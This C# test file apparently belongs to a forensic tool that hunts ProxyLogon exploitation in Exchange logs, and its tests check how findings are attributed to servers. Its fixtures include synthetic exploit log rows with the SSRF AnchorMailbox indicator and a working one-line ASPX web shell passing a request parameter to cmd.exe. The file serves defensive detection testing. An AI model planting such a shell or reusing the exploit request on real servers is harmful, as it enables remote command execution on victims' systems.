using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using HafniumTools.Audit;
using HafniumTools.Builds;
using HafniumTools.Logs;
using HafniumTools.Model;
using Xunit;
using static HafniumTools.Tests.Logs.LogTestSupport;

namespace HafniumTools.Tests.Logs;

/// <summary>
/// Issue 11, item 8: rows that do not name their server (HttpProxy rows without ServerHostName) take the name the other
/// logs of the same evidence root state, by the one convention (the FQDN where the evidence gives it); findings and
/// coverage of one root carry one name, and roots or reports of different servers are never merged.
/// </summary>
public sealed class EvidenceRootNamingTests : IDisposable
{
    private const string InstallLogging = "C/Program Files/Microsoft/Exchange Server/V15/Logging";

    private static readonly string[] HttpProxyFields =
        ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,"
        + "AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,"
        + "BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,"
        + "ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
        + "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
        + "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,"
        + "ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,"
        + "BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
        + "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,"
        + "TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,"
        + "PartitionEndpointLookupLatency,RoutingStatus").Split(',');

    private readonly string _dir = TempDir();

    public void Dispose() => Directory.Delete(_dir, true);

    [Fact]
    public void Rows_without_a_server_in_a_copy_with_no_server_folder_take_the_name_other_http_proxy_rows_state()
    {
        string root = Path.Combine(_dir, "evidence");
        WriteProxyLog(root, "Ecp", ExploitRow(server: string.Empty));
        WriteProxyLog(root, "Owa", BenignRow(server: "EXCH09"));

        var hunt = Hunt([root]);

        Assert.Contains(hunt.Findings, f => f.Verdict == Verdict.Exploitation);
        Assert.All(hunt.Findings, f => Assert.Equal("EXCH09", f.ComputerName));
        Assert.Equal(["EXCH09"], hunt.Coverage.Select(c => c.ComputerName).Distinct());
        Assert.Equal(2, hunt.Coverage.Count);
    }

    [Fact]
    public void Iis_and_event_logs_of_the_same_root_name_the_server_and_the_event_gives_its_fqdn()
    {
        string root = Path.Combine(_dir, "evidence");
        WriteProxyLog(root, "Ecp", ExploitRow(server: string.Empty));
        Write(Path.Combine(root, "C", "inetpub", "logs", "LogFiles", "W3SVC1", "u_ex210303.log"),
            "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:01\r\n"
            + "#Fields: date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
            + "2021-03-03 03:30:00 W3SVC1 EXCH09 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.23 Mozilla/5.0 - 200 0 0 31\r\n");
        Write(Path.Combine(root, "EventLogs", "Application.xml"),
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MSExchange Unified Messaging'/><EventID Qualifiers='49152'>1130</EventID>"
            + "<Level>2</Level><TimeCreated SystemTime='2021-03-02T23:58:11.408Z'/><EventRecordID>918211</EventRecordID><Channel>Application</Channel><Computer>exch09.contoso.com</Computer></System>"
            + "<EventData><Data>An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Markup.XamlReader' to type 'Microsoft.Exchange.UM.UMCommon.UMReportRawCounters'.</Data></EventData></Event>\r\n");

        var hunt = Hunt([root]);

        Assert.Contains(hunt.Findings, f => f.Category == FindingCategory.HttpProxy && f.Verdict == Verdict.Exploitation);
        Assert.Contains(hunt.Findings, f => f.RuleId.StartsWith("HT-EVT-", StringComparison.Ordinal));
        Assert.All(hunt.Findings, f => Assert.Equal("exch09.contoso.com", f.ComputerName));
        Assert.Equal(3, hunt.Coverage.Count);
        Assert.All(hunt.Coverage, c => Assert.Equal("exch09.contoso.com", c.ComputerName));
    }

    [Fact]
    public void A_responders_folder_name_above_the_install_gives_way_to_the_server_the_logs_state()
    {
        string root = Path.Combine(_dir, "case-4711");
        WriteProxyLog(root, "Ecp", ExploitRow(server: string.Empty), BenignRow(server: "EXCH09"));

        var hunt = Hunt([root]);

        Assert.NotEmpty(hunt.Findings);
        Assert.All(hunt.Findings, f => Assert.Equal("EXCH09", f.ComputerName));
        Assert.Equal("EXCH09", Assert.Single(hunt.Coverage).ComputerName);
    }

    [Fact]
    public void The_triage_folder_names_rows_when_no_log_names_the_server()
    {
        string root = Path.Combine(_dir, "EXCH11");
        WriteProxyLog(root, "Ecp", ExploitRow(server: string.Empty));

        var hunt = Hunt([root]);

        Assert.All(hunt.Findings, f => Assert.Equal("EXCH11", f.ComputerName));
        Assert.Equal("EXCH11", Assert.Single(hunt.Coverage).ComputerName);
    }

    [Fact]
    public void Roots_of_two_servers_are_never_merged_and_a_root_stating_two_servers_keeps_each_name()
    {
        // Two triage folders, each one server; and one folder where an admin gathered two servers' logs.
        WriteProxyLog(Path.Combine(_dir, "EXCH21"), "Ecp", ExploitRow(server: string.Empty));
        WriteProxyLog(Path.Combine(_dir, "EXCH22"), "Owa", BenignRow(server: "EXCH22"));
        string mixed = Path.Combine(_dir, "gathered");
        WriteProxyLog(mixed, "Ecp", ExploitRow(server: "EXCH31"));
        WriteProxyLog(mixed, "Owa", BenignRow(server: "EXCH32"), ExploitRow(server: string.Empty));

        var hunt = Hunt([Path.Combine(_dir, "EXCH21"), Path.Combine(_dir, "EXCH22"), mixed]);

        Assert.Contains(hunt.Findings, f => f.ComputerName == "EXCH21");
        Assert.Contains(hunt.Findings, f => f.ComputerName == "EXCH31");
        Assert.DoesNotContain(hunt.Findings, f => f.ComputerName == "EXCH22" || f.ComputerName == "EXCH32");
        Assert.Equal(
            ["EXCH21", "EXCH22", "EXCH31", "EXCH32"],
            hunt.Coverage.Select(c => c.ComputerName).OrderBy(n => n, StringComparer.Ordinal));

        // The unnamed row of the gathered folder is not given either server's name (it could be either).
        Assert.Contains(hunt.Findings, f => f.Path!.Contains("Owa", StringComparison.Ordinal) && f.ComputerName == "gathered");
    }

    [Fact]
    public void Test_proxylogon_reports_of_two_servers_in_one_folder_keep_their_own_names()
    {
        string reports = Path.Combine(_dir, "Test-ProxyLogonLogs");
        Write(Path.Combine(reports, "EXCH41-Cve-2021-26857.csv"),
            "#TYPE Selected.System.Diagnostics.Eventing.Reader.EventLogRecord\r\n\"TimeCreated\",\"MachineName\",\"Message\"\r\n"
            + "\"3/3/2021 3:04:11 AM\",\"EXCH41.contoso.local\",\"An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.MessageContentBuilder'.\"\r\n");
        Write(Path.Combine(reports, "EXCH42-Cve-2021-26858-DownloadPaths.log"), "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx'\r\n");
        Write(Path.Combine(reports, "EXCH41-Cve-2021-26858-DownloadPaths.log"), "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\y.aspx'\r\n");

        var hunt = Hunt([reports]);

        Assert.Equal("EXCH42", Assert.Single(hunt.Findings, f => f.RawText!.Contains("x.aspx", StringComparison.Ordinal)).ComputerName);
        Assert.Equal("EXCH41.contoso.local", Assert.Single(hunt.Findings, f => f.RawText!.Contains("y.aspx", StringComparison.Ordinal)).ComputerName);
        Assert.Equal(["EXCH41.contoso.local", "EXCH42"], hunt.Coverage.Select(c => c.ComputerName).Distinct().OrderBy(n => n, StringComparer.Ordinal));
    }

    [Fact]
    public void The_audit_gives_the_root_one_server_row_named_as_its_logs_name_it()
    {
        string root = Path.Combine(_dir, "evidence");
        WriteProxyLog(root, "Ecp", ExploitRow(server: string.Empty));
        WriteProxyLog(root, "Owa", BenignRow(server: "EXCH09"));
        Write(Path.Combine(root, "C", "inetpub", "wwwroot", "aspnet_client", "system_web", "s.aspx"),
            "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>");

        var audits = AuditRun.Run(new AuditRequest { Roots = [root] }, BuildCatalog.Embedded, new HuntResult(), default);

        var audit = Assert.Single(audits);
        Assert.Equal("EXCH09", audit.ComputerName);
    }

    private static Dictionary<string, string> ExploitRow(string server) => new()
    {
        ["DateTime"] = "2021-03-03T03:37:27.922Z", ["RequestId"] = Guid.NewGuid().ToString(), ["Protocol"] = "Ecp", ["UrlHost"] = "mail.contoso.com",
        ["UrlStem"] = "/ecp/y.js", ["IsAuthenticated"] = "False", ["AnchorMailbox"] = "ServerInfo~a]@exch09.contoso.com:444/ecp/proxyLogon.ecp?#",
        ["UserAgent"] = "python-requests/2.25.1", ["ClientIpAddress"] = "86.105.18.116", ["ServerHostName"] = server, ["HttpStatus"] = "241",
        ["BackEndStatus"] = "241", ["Method"] = "POST", ["ProxyAction"] = "Proxy", ["TargetServer"] = "exch09.contoso.com", ["RoutingType"] = "BEResource",
        ["RoutingHint"] = "X-BEResource-Cookie",
    };

    private static Dictionary<string, string> BenignRow(string server) => new()
    {
        ["DateTime"] = "2021-03-03T03:30:01.120Z", ["RequestId"] = Guid.NewGuid().ToString(), ["Protocol"] = "Owa", ["UrlHost"] = "mail.contoso.com",
        ["UrlStem"] = "/owa/", ["AuthenticationType"] = "Negotiate", ["IsAuthenticated"] = "True", ["AuthenticatedUser"] = "CONTOSO\\exadmin",
        ["AnchorMailbox"] = "Sid~S-1-5-21-3623811015-3361044348-30300820-1013", ["UserAgent"] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        ["ClientIpAddress"] = "198.51.100.23", ["ServerHostName"] = server, ["HttpStatus"] = "200", ["BackEndStatus"] = "200", ["Method"] = "GET",
        ["ProxyAction"] = "Proxy", ["TargetServer"] = "exch09.contoso.com",
    };

    private static void WriteProxyLog(string root, string protocol, params Dictionary<string, string>[] rows)
    {
        var text = new StringBuilder();
        text.Append(string.Join(",", HttpProxyFields)).Append("\r\n");
        text.Append("#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T00:00:00.017Z\r\n");
        text.Append("#Fields: ").Append(string.Join(",", HttpProxyFields)).Append("\r\n");
        foreach (var row in rows)
        {
            text.Append(string.Join(",", HttpProxyFields.Select(f => Csv(row.TryGetValue(f, out var v) ? v : string.Empty)))).Append("\r\n");
        }

        Write(Path.Combine(root, InstallLogging, "HttpProxy", protocol, "HttpProxy_2021030303-1.LOG"), text.ToString());
    }

    private static string Csv(string value) =>
        value.IndexOfAny([',', '"']) >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;

    private static void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
    }

    [Fact]
    public void Past_the_bound_a_root_decides_its_names_early_and_keeps_them_for_every_later_finding_and_coverage()
    {
        var rule = new DetectionRule("HT-TEST-X", FindingCategory.HttpProxy, Severity.Critical, Verdict.Exploitation, "A step", "Because.", "unit test", "CVE-2021-26855");
        string root = Path.Combine(_dir, "case 7", InstallLogging);
        var ecp = new LogFileEntry(Path.Combine(root, "HttpProxy", "Ecp", "HttpProxy_2021030303-1.LOG"), 10, DateTime.UtcNow, false);
        var owa = new LogFileEntry(Path.Combine(root, "HttpProxy", "Owa", "HttpProxy_2021030303-1.LOG"), 10, DateTime.UtcNow, false);
        var other = new LogFileEntry(Path.Combine(_dir, "EXCH40", "Logging", "HttpProxy", "Ecp", "HttpProxy_2021030303-1.LOG"), 10, DateTime.UtcNow, false);
        var names = new EvidenceRootNames([_dir], [ecp, owa, other], "HOST", maxHeld: 3);
        var reported = new List<Finding>();
        var counted = new List<string>();

        reported.AddRange(names.Take(other, new Finding(rule, string.Empty)));
        reported.AddRange(names.Take(ecp, new Finding(rule, "exch41.contoso.com")));
        reported.AddRange(names.Take(ecp, new Finding(rule, string.Empty)));
        Assert.Empty(reported);

        // The fourth waiting finding passes the bound: the root holding most (the copied install) decides.
        reported.AddRange(names.Take(ecp, new Finding(rule, string.Empty)));
        Assert.Equal(3, reported.Count);
        Assert.All(reported, f => Assert.Equal("exch41.contoso.com", f.ComputerName));

        // Decided: later findings leave at once with the same name, even when a later file states another spelling.
        var later = names.Take(owa, new Finding(rule, "EXCH41"));
        Assert.Equal("exch41.contoso.com", Assert.Single(later).ComputerName);
        Assert.Empty(names.Finished(ecp, "EXCH41", "HOST", counted.Add));
        Assert.Empty(names.Finished(owa, "EXCH41", "HOST", counted.Add));
        Assert.Equal(["exch41.contoso.com", "exch41.contoso.com"], counted);

        // The other root was still waiting and is named when its file ends.
        var last = names.Finished(other, null, "HOST", counted.Add);
        Assert.Equal("EXCH40", Assert.Single(last).ComputerName);
        Assert.Equal("EXCH40", counted[^1]);
        Assert.Empty(names.Flush());
    }
}
